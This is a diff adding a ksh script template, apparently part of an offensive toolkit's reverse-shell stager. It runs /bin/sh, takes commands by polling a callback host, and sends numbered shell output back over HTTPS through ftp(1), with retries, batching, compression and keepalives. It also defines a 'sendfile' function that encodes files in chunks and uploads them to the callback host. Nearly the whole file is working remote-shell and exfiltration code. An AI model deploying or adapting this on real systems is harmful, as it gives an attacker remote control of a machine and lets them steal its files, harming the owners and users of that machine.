@@ -0,0 +1,295 @@
+m4_dnl script.tmpl.m4
+m4_dnl The script which hooks up a shell, shared by crs.tmpl.m4 and the
+m4_dnl adapter's stager.tmpl.m4
+m4_dnl By J. Stuart McMurray
+m4_dnl Created 20261018
+m4_dnl Last Modified 20261018
+m4_dnl
+m4_dnl Whatever includes this defines the ftp, auth, and input templates and the
+m4_dnl m4_oqa_cbaddr, m4_oqa_keepalive, m4_oqa_batch_wait, m4_oqa_compress, and
+m4_dnl m4_oqa_input macros.
+{{/* script hooks up a shell to two ftp(1)s. */}}
+{{- define "script" -}}
+#!/bin/ksh
+set -euo pipefail
+KAINT=m4_oqa_keepalive # KeepAlive interval
+SENDTRIES=3               # Attempts to send each output line
+BATCHWAIT=m4_oqa_batch_wait # Seconds to accumulate output lines, 0 for none
+BATCHLINES=32             # Maximum output lines per batch
+COMPRESS=m4_oqa_compress # Non-empty to compress batches, if we can
+CHUNKLINES=256            # Maximum output lines per compressed batch
+POLLINPUT=m4_oqa_input # Non-empty to poll the adapter for input
+OUTFILE=/tmp/{{.ID}}.out  # Sent output, for resending missing lines
+MISSING=$OUTFILE.missing  # Exists if we've probably got missing lines
+DONE=$OUTFILE.done        # Exists when there's no more output to batch
+ACKED=$OUTFILE.acked      # Last line the adapter has, with none missing
+RUN=$(date +%s).$$.$RANDOM # Tells the adapter we've (re)started
+
+{{/* auth is defined by whatever includes us. */ -}}
+{{template "auth" .}}
+
+{{/* send sends the query $2 to the adapter's $1 route.  Retrying is safe,
+     duplicates are ignored.  If we still can't send it, it'll be resent
+     later.  Backing off gives a full queue a chance to drain. */ -}}
+send() {
+	typeset TRIES=0
+	until {{template "ftp" .}} \
+		"https://m4_oqa_cbaddr/$1/{{.ID}}$AUTH?$2"; do
+		if [[ $((TRIES+=1)) -ge $SENDTRIES ]]; then
+			>"$MISSING"
+			return
+		fi
+		sleep $TRIES
+	done
+}
+
+{{/* announce tells the adapter we're a new run, so it doesn't mistake our
+     line 1 for a retry of the last run's.  Until it knows, it can't tell our
+     lines from the last run's, so unlike send, announce doesn't give up. */ -}}
+announce() {
+	typeset -i TRIES=0
+	until {{template "ftp" .}} \
+		"https://m4_oqa_cbaddr/line/{{.ID}}$AUTH?0 $RUN"; do
+		[[ $((TRIES+=1)) -lt 5 ]] || TRIES=5
+		sleep $TRIES
+	done
+}
+
+{{/* joinlines joins the lines on stdin into one line. */ -}}
+joinlines() {
+	sed -e :a -e '$!N;s/\n//;ta'
+}
+
+{{/* lines prints the lines numbered $1 through $2 from $OUTFILE, which may
+     not start at line 1. */ -}}
+lines() {
+	sed -n -e "/^ *$1[^0-9]/,\$!d" -e p -e "/^ *$2[^0-9]/q" "$OUTFILE"
+}
+
+{{/* trim removes the lines from $OUTFILE which status said the adapter has,
+     so a long session doesn't fill up /tmp.  Only whatever appends to
+     $OUTFILE calls trim, so no lines are lost in between. */ -}}
+trim() {
+	typeset A
+	[[ -f "$ACKED" ]] || return 0
+	A=$(<"$ACKED")
+	rm -f "$ACKED"
+	sed -n "/^ *$A[^0-9]/,\$p" "$OUTFILE" >"$OUTFILE.new"
+	if [[ -s "$OUTFILE.new" ]]; then
+		mv "$OUTFILE.new" "$OUTFILE"
+	else
+		rm -f "$OUTFILE.new"
+	fi
+}
+
+{{/* batch sends lines $1 through $2 of $OUTFILE in a batch.  In each line,
+     characters which separate or encode lines in a batch are
+     URL-encoded. */ -}}
+batch() {
+	send lines "$(lines $1 $2 |
+		sed -e 's/%/%25/g' -e 's/&/%26/g' -e 's/+/%2B/g' -e 's/$/\&/' |
+		joinlines)"
+}
+
+{{/* chunk sends lines $1 through $2 of $OUTFILE gzipped and
+     base64url-encoded. */ -}}
+chunk() {
+	send chunk "gzip.$1.$(lines $1 $2 | gzip -c |
+		b64encode -r x | sed -e 'y,+/,-_,' -e 's/=*$//' | joinlines)"
+}
+
+{{/* sendbatches sends the lines in $OUTFILE in batches every $BATCHWAIT
+     seconds, until $DONE exists.  Batches are compressed if we've been asked
+     to and have the tools. */ -}}
+sendbatches() {
+	typeset -i SENT=0 N TO MAX=$BATCHLINES
+	typeset FIN SENDER=batch
+	if [[ -n "$COMPRESS" ]] && whence gzip >/dev/null &&
+		whence b64encode >/dev/null; then
+		MAX=$CHUNKLINES
+		SENDER=chunk
+	fi
+	while :; do
+		sleep $BATCHWAIT
+		FIN=
+		[[ ! -f "$DONE" ]] || FIN=1
+		N=$(sed -n '$s/^ *\([0-9]*\).*/\1/p' "$OUTFILE")
+		while [[ $SENT -lt $N ]]; do
+			TO=$((SENT + MAX))
+			[[ $TO -le $N ]] || TO=$N
+			$SENDER $((SENT + 1)) $TO
+			SENT=$TO
+		done
+		[[ -z "$FIN" ]] || return 0
+	done
+}
+
+{{/* pollinput prints commands queued in the adapter for us, forever.  The
+     adapter keeps commands until we ask for the ones after them. */ -}}
+pollinput() {
+	typeset -i LAST=0 N
+	typeset R CMD
+	while :; do
+		if ! R=$({{template "ftp" .}} \
+			"https://m4_oqa_cbaddr/input/{{.ID}}$AUTH?$LAST"); then
+			sleep 1
+			continue
+		fi
+		while read -r N CMD; do
+			[[ $N -gt $LAST ]] || continue
+			print -r -- "$CMD"
+			LAST=$N
+		done <<_eof
+$R
+_eof
+	done
+}
+
+{{/* status prints what the adapter says about our lines and notes in $ACKED
+     the last one it has with none missing before it, for trim. */ -}}
+status() {
+	typeset S
+	S=$({{template "ftp" .}} \
+		"https://m4_oqa_cbaddr/status/{{.ID}}$AUTH") || return 0
+	print -r -- "$S" | sed -n 's/^contiguous //p' >"$ACKED.new"
+	mv "$ACKED.new" "$ACKED"
+	print -r -- "$S"
+}
+
+{{/* resend asks the adapter which lines it's missing and sends them
+     again. */ -}}
+resend() {
+	rm -f "$MISSING"
+	status | while read -r WHAT FROM TO; do
+		[[ "missing" == "$WHAT" ]] || continue
+		lines $FROM $TO | while read -r; do
+			{{template "ftp" .}} \
+				"https://m4_oqa_cbaddr/resend/{{.ID}}$AUTH?$REPLY" ||
+				>"$MISSING"
+		done
+	done ||:
+}
+
+{{/* Input stream, either from curlrevshell or polled from the adapter.
+     Before anything else, the shell gets sendfile, which sends a file in
+     chunks to the adapter, which needs -file-dir, as sendfile path [name].
+     It's defined here because the shell doesn't see our functions. */ -}}
+(
+	print -r -- "OQAFILE='https://m4_oqa_cbaddr/file/{{.ID}}$AUTH'"
+	cat <<'_eof'
+sfchunk() {
+	typeset D T=0
+	D=$(dd if="$1" bs=2048 skip=$(($4 - 1)) count=1 2>/dev/null |
+		if [[ b64 == "$3" ]]; then
+			b64encode -r x | sed -e 'y,+/,-_,' -e 's/=*$//'
+		else
+			hexdump -ve '1/1 "%02x"'
+		fi | sed -e :a -e '$!N;s/\n//;ta')
+	[[ -n "$D" ]] || return 1
+	until {{template "ftp" .}} "$OQAFILE/$2?$3.$4.$D" >/dev/null; do
+		[[ $((T+=1)) -lt 3 ]] || return 0
+		sleep $T
+	done
+}
+sendfile() {
+	typeset F=$1 N=${2:-${1##*/}} ENC S R WHAT FROM TO
+	typeset -i C=0 I TRIES=0
+	if [[ ! -f "$F" || ! -r "$F" ]]; then
+		echo "sendfile: can't read $F" >&2
+		return 1
+	elif whence b64encode >/dev/null; then
+		ENC=b64
+	elif whence hexdump >/dev/null; then
+		ENC=hex
+	else
+		echo "sendfile: need b64encode or hexdump" >&2
+		return 1
+	fi
+	while sfchunk "$F" "$N" $ENC $((C + 1)); do
+		C+=1
+	done
+	S=$(sha256 -q "$F")
+	while [[ $((TRIES+=1)) -le 3 ]]; do
+		if ! R=$({{template "ftp" .}} "$OQAFILE/$N?end.$C.$S"); then
+			echo "sendfile: $F garbled or not sent" >&2
+			return 1
+		elif [[ "$R" == ok* ]]; then
+			echo "sendfile: sent $F ($C chunks) as $N"
+			return 0
+		fi
+		echo "$R" | while read -r WHAT FROM TO; do
+			[[ missing == "$WHAT" ]] || continue
+			I=$FROM
+			while [[ $I -le $TO ]]; do
+				sfchunk "$F" "$N" $ENC $I
+				I+=1
+			done
+		done
+	done
+	echo "sendfile: gave up on missing chunks of $F" >&2
+	return 1
+}
+cat <<'_eof2'
+ ___________________
+< In the installer! >
+ -------------------
+        \   ^__^
+         \  (oo)\_______
+            (__)\       )\/\
+                ||----w |
+                ||     ||
+_eof2
+_eof
+	if [[ -n "$POLLINPUT" ]]; then
+		pollinput </dev/null
+	else
+		exec {{template "input" .}} </dev/null
+	fi
+) |&
+INPID=$!
+
+{{/* Output from a previous run would confuse batching and resending. */ -}}
+: >"$OUTFILE"
+rm -f "$DONE" "$MISSING" "$ACKED"
+
+announce
+
+{{/* Shell with numbered output lines. */ -}}
+/bin/sh <&p 2>&1 | cat -n -u |
+{{/* Output stream to ftp(1) adapter, either a line at a time or in
+     batches. */ -}}
+(
+	if [[ 0 -lt $BATCHWAIT ]]; then
+		sendbatches &
+		BATCHPID=$!
+	fi
+	while read -r; do
+		echo "$REPLY"
+		print -r -- "$REPLY" >>"$OUTFILE"
+		[[ 0 -lt $BATCHWAIT ]] || send line "$REPLY"
+		trim
+	done
+	if [[ 0 -lt $BATCHWAIT ]]; then
+		>"$DONE"
+		wait $BATCHPID
+	fi
+	kill $INPID
+) &
+
+{{- /* Output stream keepalives. */}}
+sleep $KAINT
+while [[ -n "$(jobs -l)" ]]; do
+	{{template "ftp" .}} "https://m4_oqa_cbaddr/keepalive/{{.ID}}$AUTH"
+	if [[ -f "$MISSING" ]]; then
+		resend
+	else
+		status >/dev/null
+	fi
+	sleep $KAINT
+done
+{{- /* Explicitly close the output stream when we're done, after making sure
+       the adapter has everything. */}}
+resend
+{{template "ftp" .}} "https://m4_oqa_cbaddr/close/{{.ID}}$AUTH"
+rm -f "$OUTFILE" "$MISSING" "$DONE" "$ACKED"
+{{  end -}}